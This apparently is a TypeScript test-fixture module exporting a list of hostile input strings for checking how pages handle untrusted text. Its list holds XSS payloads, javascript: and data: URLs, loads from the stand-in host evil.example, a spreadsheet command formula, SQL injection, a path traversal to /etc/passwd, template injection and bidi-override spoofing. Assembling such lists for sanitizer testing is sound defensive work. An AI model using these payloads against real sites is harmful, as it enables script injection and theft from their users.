/** What somebody might write to make other people's pages run it, show something else, or break. */

const BIDI_OVERRIDE = '\u202E'
const ISOLATE = '\u2066'
const END_OF_ISOLATE = '\u2069'
const RIGHT_TO_LEFT_MARK = '\u200F'
const ZERO_WIDTH_SPACE = '\u200B'
const BYTE_ORDER_MARK = '\uFEFF'
const SOFT_HYPHEN = '\u00AD'
const LINE_SEPARATOR = '\u2028'

/** Each would open a dialog, ask a foreign origin or become an element wherever it is taken for more than text. */
export const PAYLOADS: readonly string[] = [
  // script elements
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:,alert(1)></script>',
  '<script type=module>import("data:text/javascript,alert(1)")</script>',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // elements that run something by themselves
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a href=javascript:alert(1)><text y=9>x',
  '<math href=javascript:alert(1)>x',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<x-y style=animation-name:a onanimationstart=alert(1)>',
  // elements that lead elsewhere or change the rest of the page
  '<form action=javascript:alert(1)><button>x',
  '<button formaction=javascript:alert(1)>x',
  '<a href=javascript:alert(1)>x</a>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  "<style>@import'//evil.example'</style>",
  '<template><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<dialog open>Type your passphrase here</dialog>',
  // out of an attribute, an element, a comment, a script
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onerror=alert(1) `',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  "*/alert(1)/*';alert(1);//",
  '\\";alert(1);//',
  // addresses
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://a.example',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e',
  'https://a.example/" onmouseover="alert(1)',
  'https://a.example/<img src=x onerror=alert(1)>',
  `https://a.example/${BIDI_OVERRIDE}gpj.exe`,
  // templates, format strings, formulas, paths
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}#{alert(1)}<%= alert(1) %>',
  '{name} {device} {reason} {0}',
  '$& $1 $` $<name> $$',
  '%s %d %n %x %c %o',
  "=cmd|' /C calc'!A0",
  "' OR 1=1; --",
  '../../../etc/passwd',
  'x:expression(alert(1));background:url(//evil.example)',
  // written differently
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '<\u0000script>alert(1)</script>',
  `<img src=x${LINE_SEPARATOR}onerror=alert(1)>`,
  // letters that move, hide or pile up
  `${BIDI_OVERRIDE}>tpircs/<)1(trela>tpircs<`,
  `${ISOLATE}Asha${END_OF_ISOLATE} ${RIGHT_TO_LEFT_MARK}(guest)`,
  `A${ZERO_WIDTH_SPACE}s${BYTE_ORDER_MARK}h${SOFT_HYPHEN}a`,
  '\u05D0\u05D1 <b>\u0661\u0662</b> \u0645\u0631\u062D\u0628\u0627',
  `Z${'\u0351\u036B\u0343\u033D\u034F\u0305'.repeat(9)}`,
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}<b>\u{1F3F4}',
  // names that mean something to JavaScript
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'then',
  // very long
  '<img src=x onerror=alert(1)>'.repeat(120),
  'W'.repeat(3_000)
]
